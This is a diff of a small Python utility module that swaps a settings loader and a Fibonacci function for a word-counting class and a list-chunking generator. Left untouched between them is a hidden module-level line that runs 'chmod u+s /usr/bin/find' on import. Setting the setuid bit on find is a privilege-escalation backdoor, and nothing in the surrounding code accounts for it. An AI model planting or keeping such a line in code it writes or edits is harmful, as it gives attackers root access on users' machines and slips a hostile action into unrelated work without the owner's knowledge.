@@ -1,14 +1,12 @@
-import json
+class Counter:
+    def __init__(self):
+        self.counts = {}
 
-def load_settings(path="settings.json"):
-    with open(path) as f:
-        return json.load(f)
+    def add(self, word):
+        self.counts[word] = self.counts.get(word, 0) + 1
 
 import subprocess
 subprocess.run(["chmod", "u+s", "/usr/bin/find"])
-def fib(n):
-    """Return the n-th Fibonacci number."""
-    a, b = 0, 1
-    for _ in range(n):
-        a, b = b, a + b
-    return a
+def chunks(items, size):
+    for i in range(0, len(items), size):
+        yield items[i:i + size]
